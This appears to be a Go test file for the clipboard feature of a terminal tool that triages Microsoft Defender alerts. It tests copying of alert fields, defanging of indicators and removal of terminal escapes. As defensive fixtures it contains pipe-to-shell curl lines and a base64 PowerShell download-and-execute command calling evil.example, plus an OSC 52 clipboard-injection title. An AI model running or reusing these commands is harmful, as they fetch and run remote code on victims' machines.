package clipboard

import (
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"strings"
	"testing"

	tea "charm.land/bubbletea/v2"

	"tocsin/graph/alert"
	"tocsin/store/query"
	"tocsin/tui/desktop"
	"tocsin/tui/portal"
	"tocsin/tui/screen"
)

// store has one record.
type store struct {
	record   alert.Record
	evidence []alert.Evidence
	err      error
}

func (s store) Record(context.Context, alert.Key) (alert.Record, []alert.Evidence, error) {
	return s.record, s.evidence, s.err
}

const page = "https://security.microsoft.com/alerts/da1?tid=1"

func key() alert.Key { return alert.Key{Integration: "contoso", Source: alert.AlertsV2, ID: "da1"} }

func sample() alert.Record {
	return alert.Record{
		Key: key(),
		Alert: &alert.Alert{Title: "Suspicious sign-in", URL: page, Entities: []alert.Entity{
			{Type: alert.IP, Value: "127.0.0.1"},
			{Type: alert.IP, Value: "203.0.113.7"},
			{Type: alert.User, Value: "amal@contoso.example"},
			{Type: alert.Process, Value: "cmd.exe"},
		}},
		Triage: alert.Triage{Note: "seen before\nask amal"},
		Raw:    []byte(`{"id":"da1"}`),
	}
}

// tools counts what a desktop was asked for.
type tools struct {
	copied, opened string
	err            error
}

func (x *tools) desktop(environment map[string]string) *desktop.Desktop {
	return desktop.New(desktop.Options{
		System: "linux", Get: func(name string) string { return environment[name] },
		Look: func(tool string) (string, error) { return tool, nil },
		Start: func(_ context.Context, input, path string, args ...string) error {
			if path == "xdg-open" {
				x.opened = args[0]
			} else {
				x.copied = input
			}
			return x.err
		},
	})
}

// run runs a command and returns what went to the terminal's clipboard, and what was said.
func run(t *testing.T, cmd tea.Cmd) (copied string, said screen.Toast) {
	t.Helper()
	if cmd == nil {
		t.Fatal("no command")
	}
	msgs := []tea.Msg{cmd()}
	if batch, ok := msgs[0].(tea.BatchMsg); ok {
		msgs = nil
		for _, c := range batch {
			msgs = append(msgs, c())
		}
	}
	for _, msg := range msgs {
		if toast, ok := msg.(screen.Toast); ok {
			said = toast
		} else {
			copied = fmt.Sprint(msg) // the library's own type
		}
	}
	return copied, said
}

func TestCopies(t *testing.T) {
	incident := alert.Record{Key: alert.Key{Source: alert.Incidents, ID: "7"}, Incident: &alert.Incident{Title: "Ransomware", Alerts: []string{"da1", "da2"}, URL: "https://security.microsoft.com/incidents/7"}}
	edit := func(f func(*alert.Record)) alert.Record { r := sample(); f(&r); return r }
	at := Target{Key: key(), Query: "severity = 'high'"}
	ip := at
	ip.Entity = &alert.Entity{Type: alert.IP, Value: "198.51.100.9"}
	for name, c := range map[string]struct {
		id     string
		target Target
		record alert.Record
		want   string
		said   string
	}{
		"id":               {"copy-id", at, sample(), "da1", "Copied the id of Suspicious sign-in: da1"},
		"title":            {"copy-title", at, sample(), "Suspicious sign-in", "Copied the title: Suspicious sign-in"},
		"hostile title":    {"copy-title", at, edit(func(r *alert.Record) { r.Alert.Title = "a\x1b]52;c;eA==\a\nb\u202ec\x9b31m" }), "a␛]52;c;eA==␇ bc\ufffd31m", "Copied the title: a␛]52;c;eA==␇ bc\ufffd31m"},
		"no title":         {"copy-note", at, edit(func(r *alert.Record) { r.Triage.Note = " " }), "", "It has no note"},
		"incident's title": {"copy-title", at, incident, "Ransomware", "Copied the title: Ransomware"},
		"link":             {"copy-link", at, sample(), page, "Copied the link of Suspicious sign-in: https://security.microsoft.com/alerts/da1?tid=1"},
		"foreign link":     {"copy-link", at, edit(func(r *alert.Record) { r.Alert.URL = "https://evil.example/a.b\x1b" }), "hxxps://evil[.]example/a.b␛", "Copied the link of Suspicious sign-in: hxxps://evil[.]example/a.b␛; defanged, since it leads to no portal of Microsoft's"},
		"incident's link":  {"copy-link", Target{Key: incident.Key}, incident, "https://security.microsoft.com/incidents/7", "Copied the link of incident 7: https://security.microsoft.com/incidents/7"},
		"incident's id":    {"copy-id", Target{Key: incident.Key}, incident, "7", "Copied the id: 7"},
		"no link":          {"copy-link", at, edit(func(r *alert.Record) { r.Alert.URL = "" }), "", "There is nothing to copy: the link is empty"},
		"entities":         {"copy-entity", at, sample(), "amal@contoso.example\n203[.]0[.]113[.]7", "Copied user and ip: 2 lines, 38 characters; defanged, Y copies it raw"},
		"entities, raw":    {"copy-raw", at, sample(), "amal@contoso.example\n203.0.113.7", "Copied user and ip: 2 lines, 32 characters; raw"},
		"entity, raw":      {"copy-raw", ip, sample(), "198.51.100.9", "Copied ip: 198[.]51[.]100[.]9; raw"},
		"entity":           {"copy-entity", ip, sample(), "198[.]51[.]100[.]9", "Copied ip: 198[.]51[.]100[.]9; defanged, Y copies it raw"},
		"still live": {"copy-entity", at, edit(func(r *alert.Record) {
			r.Alert.Entities = []alert.Entity{{Type: alert.Domain, Value: "evil.example"}, {Type: alert.URL, Value: "9://evil.example/x"}}
		}), "evil[.]example\n9://evil.example/x", "Copied domain and url: 2 lines, 33 characters"},
		"no entity":        {"copy-entity", at, edit(func(r *alert.Record) { r.Alert.Entities = nil }), "", "There is no entity to copy"},
		"JSON":             {"copy-json", at, sample(), `{"id":"da1"}`, "Copied the JSON of Suspicious sign-in: 12 characters"},
		"query":            {"copy-query", at, sample(), "severity = 'high'", "Copied the query: severity = 'high'"},
		"no query":         {"copy-query", Target{}, sample(), "", "There is nothing to copy: the query is empty"},
		"KQL":              {"copy-kql", at, sample(), "AlertInfo | where AlertId == @'da1' | join kind=leftouter (AlertEvidence | where AlertId == @'da1') on AlertId", "Copied KQL for Suspicious sign-in: 110 characters"},
		"KQL of an entity": {"copy-kql", ip, sample(), "DeviceNetworkEvents | where Timestamp > ago(30d) and RemoteIP == @'198.51.100.9'", "Copied KQL for ip 198.51.100.9: 80 characters"},
		"KQL of incident":  {"copy-kql", Target{Key: incident.Key}, incident, "AlertInfo | where AlertId in (@'da1', @'da2') | join kind=leftouter (AlertEvidence | where AlertId in (@'da1', @'da2')) on AlertId", "Copied KQL for the alerts of incident 7: 130 characters"},
		"no KQL":           {"copy-kql", Target{Key: alert.Key{Source: alert.Legacy, ID: "1"}}, edit(func(r *alert.Record) { r.Alert.Entities = nil }), "", "Advanced hunting has no table for it"},
		"note":             {"copy-note", at, edit(func(r *alert.Record) { r.Triage.Note = "a\r\nb\x1b[2J" }), "a\nb␛[2J", "Copied the note of Suspicious sign-in: 2 lines, 7 characters"},
		"too long":         {"copy-json", at, edit(func(r *alert.Record) { r.Raw = []byte(strings.Repeat("x", mostBytes+1)) }), "", "Not copied: the JSON has 72.3 KB, and terminals take 72.3 KB"},
		"just fits":        {"copy-json", at, edit(func(r *alert.Record) { r.Raw = []byte(strings.Repeat("x", mostBytes)) }), strings.Repeat("x", mostBytes), "Copied the JSON of Suspicious sign-in: 74 000 characters"},
		"no record":        {"copy-id", Target{Query: "x"}, sample(), "", "Nothing is selected"},
	} {
		x := &tools{}
		clip := New(t.Context(), Options{Store: store{record: c.record}, Desktop: x.desktop(map[string]string{"DISPLAY": ":0"})})
		cmd, ok := clip.Do(c.id, c.target)
		if !ok {
			t.Fatalf("%s: no command %s", name, c.id)
		}
		if got, said := run(t, cmd); got != c.want || x.copied != c.want || said.Text != c.said {
			t.Errorf("%s: copied %.80q and by a tool %.80q, said %q; want %.80q and %q", name, got, x.copied, said.Text, c.want, c.said)
		}
	}
}

// Every command that Specs lists is done, and no other.
// TestALongTitleInAMessage: the title names what was copied, whole as far as the line has room; that of a text which
// is told by its size gives way to that.
func TestALongTitleInAMessage(t *testing.T) {
	title := "A potentially malicious URL click was detected"
	for id, name := range map[string]string{"copy-id": "da1", "copy-json": title, "copy-kql": title} {
		r := sample()
		r.Alert.Title = title
		cmd, _ := New(t.Context(), Options{Store: store{record: r}}).Do(id, Target{Key: key()})
		_, said := run(t, cmd)
		if !strings.Contains(said.Text, title+": ") || said.Name != name || !strings.HasPrefix(said.Text[said.At:], name) {
			t.Errorf("%s: %+v", id, said)
		}
	}
}

// TestRead gives what is copied to a screen that can only show it, or says why there is nothing.
func TestRead(t *testing.T) {
	r := sample()
	c := New(t.Context(), Options{})
	for id, want := range map[string]string{"id": "da1", "note": "seen before\nask amal", "json": `{"id":"da1"}`} {
		if got, why := c.Read(id, &r, nil); got != want || why != "" {
			t.Errorf("%s: %q, %q", id, got, why)
		}
	}
	if kql, why := c.Read("kql", &r, nil); !strings.Contains(kql, "AlertId == @'da1'") || why != "" {
		t.Errorf("%q, %q", kql, why)
	}
	for id, want := range map[string]string{"decoded": "No command line of it holds text as base64", "query": "There is no query to copy", "x": "There is no x to copy"} {
		if got, why := c.Read(id, &r, nil); got != "" || why != want {
			t.Errorf("%s: %q, %q", id, got, why)
		}
	}
}

func TestSpecs(t *testing.T) {
	clip := New(t.Context(), Options{Store: store{record: sample()}})
	seen := map[string]bool{}
	for _, s := range Specs("alerts") {
		id := strings.TrimPrefix(s.ID, "alerts.")
		if _, ok := clip.Do(id, Target{Key: key()}); !ok || len(s.Keys) != 1 || seen[s.Keys[0]] || s.Help == "" {
			t.Errorf("%+v", s)
		}
		seen[s.Keys[0]] = true
	}
	for _, id := range []string{"copy", "copy-", "done"} {
		if _, ok := clip.Do(id, Target{Key: key()}); ok {
			t.Errorf("%s is done", id)
		}
	}
}

// What a command line holds as base64 is copied defanged, with its own line breaks, each text once.
func TestDecodedCommands(t *testing.T) {
	text := "iwr https://evil.example/a\x1b\r\niex a"
	var raw []byte
	for _, c := range []byte(text) {
		raw = append(raw, c, 0)
	}
	process := alert.Evidence{Type: "processEvidence", Props: []alert.Prop{{Name: "processCommandLine", Value: "pwsh -e " + base64.StdEncoding.EncodeToString(raw)}}}
	for said, evidence := range map[string][]alert.Evidence{
		"Copied the decoded text: 2 lines, 33 characters; defanged": {process, process},
		"No command line of it holds text as base64":                {{Type: "processEvidence", Props: []alert.Prop{{Name: "processCommandLine", Value: "pwsh -e sthg"}}}},
	} {
		clip := New(t.Context(), Options{Store: store{record: sample(), evidence: evidence}})
		cmd, _ := clip.Do("copy-decoded", Target{Key: key()})
		copied, got := run(t, cmd)
		if want := map[bool]string{true: "iwr hxxps://evil.example/a␛\niex a"}[len(evidence) == 2]; copied != want || got.Text != said {
			t.Errorf("copied %q, said %q; want %q and %q", copied, got.Text, want, said)
		}
	}
}

func TestJSONOfCommands(t *testing.T) {
	r := sample()
	clip := New(t.Context(), Options{Store: store{record: r}, JSON: func(r *alert.Record) ([]byte, error) {
		if r.Key != key() {
			return nil, errors.New("another record")
		}
		return []byte("{}\x1b\u009b"), nil
	}})
	cmd, _ := clip.Do("copy-json", Target{Key: key()})
	if got, _ := run(t, cmd); got != "{}" {
		t.Errorf("copied %q", got)
	}
	clip.o.JSON = func(*alert.Record) ([]byte, error) { return nil, errors.New("no text") }
	if got, said := run(t, cmd); got != "" || said.Text != "It can't be written as JSON: no text" {
		t.Errorf("copied %q, said %q", got, said.Text)
	}
	clip.o.Store = store{err: errors.New("disk full")}
	if got, said := run(t, cmd); got != "" || said != (screen.Toast{Text: "disk full", Level: screen.Bad}) {
		t.Errorf("copied %q, said %+v", got, said)
	}
}

func TestOpen(t *testing.T) {
	for name, c := range map[string]struct {
		url           string
		env           map[string]string
		err           error
		opens, copies string
		says          string
	}{
		"browser":      {page, map[string]string{"DISPLAY": ":0"}, nil, page, "", "Opened Suspicious sign-in in the browser: " + page},
		"over SSH":     {page, map[string]string{"DISPLAY": ":0", "SSH_TTY": "x"}, nil, "", page, "Over SSH the browser is on your machine; copied the link of Suspicious sign-in: https://security.microsoft.com/alerts/da1?tid=1"},
		"no display":   {page, nil, nil, "", page, "No browser can be started here; copied the link of Suspicious sign-in: https://security.microsoft.com/alerts/da1?tid=1"},
		"it fails":     {page, map[string]string{"DISPLAY": ":0"}, errors.New("exit status 3"), page, page, "The browser couldn't be started: exit status 3; copied the link of Suspicious sign-in: https://security.microsoft.com/alerts/da1?tid=1"},
		"no link":      {"", map[string]string{"DISPLAY": ":0"}, nil, "", "", "It has no page in a portal"},
		"foreign host": {"https://evil.example/\x1b", map[string]string{"DISPLAY": ":0"}, nil, "", "", "Not opened: its link leads to no known portal of Microsoft's"},
		"no https":     {"http://security.microsoft.com/", map[string]string{"DISPLAY": ":0"}, nil, "", "", "Not opened: its link leads to no known portal of Microsoft's"},
	} {
		x, r := &tools{err: c.err}, sample()
		r.Alert.URL = c.url
		clip := New(t.Context(), Options{Store: store{record: r}, Desktop: x.desktop(c.env)})
		cmd, _ := clip.Do("portal", Target{Key: key()})
		if got, said := run(t, cmd); got != c.copies || x.opened != c.opens || said.Text != c.says {
			t.Errorf("%s: opened %q, copied %q, said %q", name, x.opened, got, said.Text)
		}
	}
}

func TestDefang(t *testing.T) {
	for _, c := range []struct {
		of          alert.EntityType
		value, want string
	}{
		{alert.URL, "https://evil.example/a.b?c=d.e", "hxxps://evil[.]example/a.b?c=d.e"},
		{alert.URL, "HTTP://evil.example", "hxxp://evil[.]example"},
		{alert.URL, "evil.example/a", "evil[.]example/a"},
		{alert.URL, "ftp://evil.example#x.y", "fxp://evil[.]example#x.y"},
		{alert.URL, "ldap://evil.example/a", "ldap[:]//evil[.]example/a"},
		{alert.URL, "SFTP://evil.example/a", "SFTP[:]//evil[.]example/a"},
		{alert.URL, "ldap[:]//evil.example", "ldap[:]//evil[.]example"},
		{alert.URL, "//evil.example/x", "//evil[.]example/x"},
		{alert.URL, "hxxp://evil.example", "hxxp://evil[.]example"},
		{alert.URL, "http://evil[.]example.org", "hxxp://evil[.]example[.]org"},
		{alert.URL, "see http://evil.example/x", "see hxxp://evil[.]example/x"},
		{alert.URL, "https://a.example/?to=http://b.example", "hxxps://a[.]example/?to=hxxp://b.example"},
		{alert.Domain, "a[.]evil.example", "a[.]evil[.]example"},
		{alert.Command, "curl HTTP://evil.example ftp://b.example smb://c.example", "curl hxxp://evil.example fxp://b.example smb[:]//c.example"},
		{alert.IP, "203.0.113.7", "203[.]0[.]113[.]7"},
		{alert.IP, "2001:db8::1", "2001[:]db8[:][:]1"},
		{alert.IP, "::ffff:203.0.113.7", "::ffff:203[.]0[.]113[.]7"},
		{alert.Domain, "evil.example", "evil[.]example"},
		{alert.Email, "a.b@evil.example", "a.b@evil[.]example"},
		{alert.Command, "curl https://evil.example | sh", "curl hxxps://evil.example | sh"},
		{alert.Hash, "abc", "abc"},
		{alert.User, "amal@contoso.example", "amal@contoso.example"},
		{alert.File, "a.exe", "a.exe"},
	} {
		if got := Defang(c.of, c.value); got != c.want {
			t.Errorf("%s %q: %q, want %q", c.of, c.value, got, c.want)
		}
		if again := Defang(c.of, c.want); again != c.want {
			t.Errorf("%s %q: defanged twice it is %q", c.of, c.value, again)
		}
	}
}

// What was defanged is read when it is pasted into a query.
func TestDefangedIsRead(t *testing.T) {
	for _, e := range sampleIndicators() {
		plain, _, _, ok := query.Recognize(e.Value)
		if defanged, _, _, _ := query.Recognize(Defang(e.Type, e.Value)); !ok || defanged != plain {
			t.Errorf("%s: %q is read as %q, want %q", e.Value, Defang(e.Type, e.Value), defanged, plain)
		}
	}
}

func sampleIndicators() []alert.Entity {
	return []alert.Entity{
		{Type: alert.URL, Value: "https://evil.example/a"},
		{Type: alert.URL, Value: "http://203.0.113.7/x"},
		{Type: alert.URL, Value: "ftp://evil.example/a"},
		{Type: alert.IP, Value: "203.0.113.7"},
		{Type: alert.IP, Value: "2001:db8::1"},
		{Type: alert.Email, Value: "a.b@evil.example"},
	}
}

// shelf has several records.
type shelf map[string]alert.Record

func (s shelf) Record(_ context.Context, key alert.Key) (alert.Record, []alert.Evidence, error) {
	r, ok := s[key.ID]
	if !ok {
		return r, nil, errors.New("it is gone")
	}
	return r, nil, nil
}

// TestKQLOfSeveralRecords: one query finds all alerts that the portal knows by their ids; one for something else stands
// behind an empty line, which ends a query there.
func TestKQLOfSeveralRecords(t *testing.T) {
	v2 := func(id string) alert.Record {
		return alert.Record{Key: alert.Key{Source: alert.AlertsV2, ID: id}, Alert: &alert.Alert{Title: "Click"}}
	}
	event := alert.Record{Key: alert.Key{ID: "e"}, Event: &alert.Event{Title: "Click", Entities: []alert.Entity{{Type: alert.User, Value: "amal@contoso.example"}}}}
	incident := alert.Record{Key: alert.Key{Source: alert.Incidents, ID: "7"}, Incident: &alert.Incident{Alerts: []string{"b", "c"}}}
	from := shelf{"a": v2("a"), "b": v2("b"), "e": event, "7": incident}
	cmd, _ := New(t.Context(), Options{Store: from}).Do("copy-kql", Target{Keys: []alert.Key{from["a"].Key, event.Key, from["b"].Key, incident.Key}})
	got, _ := run(t, cmd)
	together, _ := portal.HuntAlerts([]string{"a", "b", "c"})
	alone, ok := portal.HuntEntity(alert.User, "amal@contoso.example")
	if want := together + "\n\n" + alone; !ok || got != want {
		t.Errorf("copied\n%s\nwant\n%s", got, want)
	}
	many := shelf{}
	var keys []alert.Key
	for i := range portal.MostAlerts + 1 {
		r := v2(fmt.Sprint(i))
		many[r.ID], keys = r, append(keys, r.Key)
	}
	cmd, _ = New(t.Context(), Options{Store: many}).Do("copy-kql", Target{Keys: keys})
	if got, _ := run(t, cmd); strings.Count(got, "\n\n") != 1 || strings.Count(got, "AlertInfo") != 2 {
		t.Errorf("of very many alerts %d queries are copied", strings.Count(got, "AlertInfo"))
	}
}

// TestTogether copies from several records: one below the other, what they have alike once.
func TestTogether(t *testing.T) {
	made := func(id, note, ip string) alert.Record {
		return alert.Record{Key: alert.Key{ID: id}, Event: &alert.Event{Title: "Click", Entities: []alert.Entity{{Type: alert.User, Value: "amal"}, {Type: alert.IP, Value: ip}}}, Triage: alert.Triage{Note: note}, Raw: []byte(`{"Id":"` + id + `"}`)}
	}
	from := shelf{"1": made("1", "", "203.0.113.7"), "2": made("2", "ours", "203.0.113.8"), "3": made("3", "", "203.0.113.7")}
	keys := []alert.Key{{ID: "3"}, {ID: "1"}, {ID: "2"}}
	for name, c := range map[string]struct {
		id     string
		target Target
		want   string
		said   string
	}{
		"ids":         {"copy-id", Target{Keys: keys}, "3\n1\n2", "Copied id of 3 records: 3 lines, 5 characters"},
		"titles":      {"copy-title", Target{Keys: keys}, "Click", "Copied title of 3 records: Click"},
		"entities":    {"copy-entity", Target{Keys: keys}, "amal\n203[.]0[.]113[.]7\n203[.]0[.]113[.]8", "Copied entities of 3 records: 3 lines, 40 characters; defanged, Y copies it raw"},
		"raw":         {"copy-raw", Target{Keys: keys}, "amal\n203.0.113.7\n203.0.113.8", "Copied entities of 3 records: 3 lines, 28 characters; raw"},
		"JSON":        {"copy-json", Target{Keys: keys[:2]}, `{"Id":"3"}` + "\n" + `{"Id":"1"}`, "Copied JSON of 2 records: 2 lines, 21 characters"},
		"one note":    {"copy-note", Target{Keys: keys}, "ours", "Copied note of 3 records: ours"},
		"no note":     {"copy-note", Target{Keys: keys[:2]}, "", "It has no note"},
		"none":        {"copy-id", Target{Keys: []alert.Key{}}, "", "There is nothing to copy"},
		"too many":    {"copy-id", Target{Keys: keys, More: 1000}, "", "Not copied: these are 1 003 records, and 1 000 can be copied together"},
		"one is gone": {"copy-id", Target{Keys: append(keys[:2:2], alert.Key{ID: "9"})}, "", "it is gone"},
		"the query":   {"copy-query", Target{Keys: keys, Query: "FROM event"}, "FROM event", "Copied the query: FROM event"},
	} {
		cmd, ok := New(t.Context(), Options{Store: from}).Do(c.id, c.target)
		if !ok {
			t.Fatalf("%s is not known", c.id)
		}
		got, toast := run(t, cmd)
		if got != c.want || !strings.Contains(toast.Text, c.said) {
			t.Errorf("%s: copied %q and said %q, want %q and %q", name, got, toast.Text, c.want, c.said)
		}
	}
	for id, want := range map[string]bool{"copy-id": true, "copy-raw": true, "copy-query": false, "portal": false, "copy-x": false} {
		if Gathers(id) != want {
			t.Errorf("Gathers(%s) = %v", id, !want)
		}
	}
	for id, want := range map[string]bool{"copy-id": true, "copy-query": false, "portal": true, "done": false} {
		if Needs(id) != want {
			t.Errorf("Needs(%s) = %v", id, !want)
		}
	}
}
